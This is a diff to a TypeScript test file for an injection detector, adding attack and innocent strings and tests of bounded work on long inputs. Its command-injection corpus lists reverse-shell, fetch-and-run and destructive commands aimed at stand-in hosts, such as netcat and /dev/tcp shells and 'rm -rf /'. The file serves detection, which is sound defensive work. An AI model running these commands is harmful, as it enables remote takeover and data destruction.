@@ -1,7 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${…} is what the texts hold
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { type Threat, threatsIn } from './detectors.ts';
+import { MAX_INSPECTED_CHARS, type Threat, threatsIn } from './detectors.ts';
 
 // biome-ignore format: a corpus, packed
 const ATTACKS: Readonly<Record<Threat, readonly string[]>> = {
@@ -31,7 +31,7 @@ const ATTACKS: Readonly<Record<Threat, readonly string[]>> = {
   'command-injection': [
     '; rm -rf /', 'x; rm -rf ~', 'a && rm -rf .', '| sh', 'curl https://evil.example | sh', 'x | bash', '; cat /etc/hosts', '; curl https://evil.example',
     '$(whoami)', '$(cat /tmp/x)', '$(curl evil.example)', '`whoami`', '`cat /tmp/x`', '`id`', 'a;id', 'a|id', 'a && id', '; ls', '; whoami', 'x; wget evil.example/x',
-    '; sleep 5', 'x;sleep 5', 'x || sleep 5', '; ls /', '; cat ~/x', '; rm *', '; nc -e /bin/sh 1.2.3.4 99', '$(rm -rf /)', '${IFS}', '${jndi:ldap://evil}', 'bash -i >& /dev/tcp/1.2.3.4/99', '%3B%20rm%20-rf%20/', '; echo x > /tmp/y',
+    '; sleep 5', 'x;sleep 5', 'x || sleep 5', '; ls /', 'x | ls /', '; chown /', '; cat ~/x', '; rm *', '; nc -e /bin/sh 1.2.3.4 99', '$(rm -rf /)', '${IFS}', '${jndi:ldap://evil}', 'bash -i >& /dev/tcp/1.2.3.4/99', '%3B%20rm%20-rf%20/', '; echo x > /tmp/y',
     '; python3 -c "x"', '| base64 -d', '$(id)',
   ],
 };
@@ -47,7 +47,7 @@ const INNOCENT: readonly string[] = [
   '<img src="cat.png" alt="a cat">', 'Email <bob@example.com>', 'Promise<object>', 'on error = retry', 'turn it on; load = heavy', 'onwards=good', 'The description: prescription', 'Superscript: x²',
   'wait...', 'wait.../no', 'either../or', 'see .../docs', 'see …/docs', '...', 'v1..v2', 'Mr. & Mrs. Jones', 'and/or', '24/7', '9/11', 'etc/etc', 'I filed: it', 'c:\\users\\bob\\report.docx', 'https://example.com/a/b?c=d;e=f&g=h#i',
   'https://wa.me/14155550100?text=Order%0AName:%20Bob', '100% of 50%', '50%decrease', '20%25 off', 'To: Bob\nFrom: Eve\nSubject: lunch\n\nHi', 'Line one\r\nLine two', 'Note: bring cash',
-  'feed the dog; cat is out', 'cat | dog', 'dogs; cat v.s. mouse', 'rest; sleep 8', 'cat; cat / dog', 'feed\ncat / dog', 'name|id|date', 'eat well; sleep 8 hours; run', 'kill the lights', 'will the injection hurt?', 'name | id', 'passport; id', 'name & id', 'a && b || c',
+  'feed the dog; cat is out', 'cat | dog', 'dogs; cat v.s. mouse', 'rest; sleep 8', 'cat; cat / dog', 'time | kill /', 'time | kill / ', 'rest; sleep 8 | cat /', 'drop; find /', 'phone | ping / sms', 'head | tail /', 'feed\ncat / dog', 'name|id|date', 'eat well; sleep 8 hours; run', 'kill the lights', 'will the injection hurt?', 'name | id', 'passport; id', 'name & id', 'a && b || c',
   'I ran into bash street kids', 'Sh! | quiet', 'whoami', 'uname it', '; find out more', '; more information below', '; touch base soon', 'ping me; call me', '; curl up with a book', 'use the `id` column', 'run `ls` first', 'the `cat` command', '$(amount)',
   'Dear $(name)', '${name}', '{{name}}', 'a; b; c', "don't; won't; can't", "rock'n'roll", 'Dick', "it's ok; it's fine", '#1 choice', '-- Bob', '/* nice */', 'Tom; Dick & Harry | friends',
   'Order by date; group by name', 'Having a great time, limit 5', 'where is it?', 'grant access; create value', 'alter ego; shutdown at 5', "the players' or coaches' room", 'C# and F#', "'tis the season", 'Ça va; très bien', '日本語のテキスト；テスト', '१२३', 'שלום; עולם',
@@ -109,9 +109,9 @@ describe('ordinary writing', () => {
   });
 });
 
-it('reads the longest text in bounded work', () => {
+describe('the longest text', () => {
   const gap = ' '.repeat(19);
-  const nasty = [
+  const NASTY = [
     ' ',
     "'",
     "' or ",
@@ -125,10 +125,27 @@ it('reads the longest text in bounded work', () => {
     '$(',
     '`',
     '\n ',
+    'ﷺ',
+    'ﷺ%25',
+    '\u0344',
   ];
-  for (const piece of nasty) {
+  it.each(NASTY)('is read in bounded work: %j', (piece) => {
     const startedAt = performance.now();
     threatsIn(piece.repeat(Math.ceil(1_000_000 / piece.length)));
-    expect(performance.now() - startedAt, JSON.stringify(piece)).toBeLessThan(2_000); // 50 ms in practice; quadratic work takes minutes
-  }
+    expect(performance.now() - startedAt).toBeLessThan(500); // 20 ms in practice
+  });
+
+  it('is read to its end, the folded one too', () => {
+    const attack = '＜script＞';
+    const padding = 'ж'.repeat(MAX_INSPECTED_CHARS - attack.length);
+    expect(threatsIn(padding + attack)).toEqual(['xss']);
+    expect(threatsIn(`${padding}${padding}${padding}${attack}`)).toEqual([]);
+  });
+
+  it('is not read for longer because folding makes it longer', () => {
+    // the price of bounded work: what is only an attack once it is folded is missed behind so much padding
+    const padded = (padding: number) => threatsIn(`${'ﷺ'.repeat(padding)}＜script＞`);
+    expect(padded(2_000)).toEqual(['xss']);
+    expect(padded(3_000)).toEqual([]);
+  });
 });
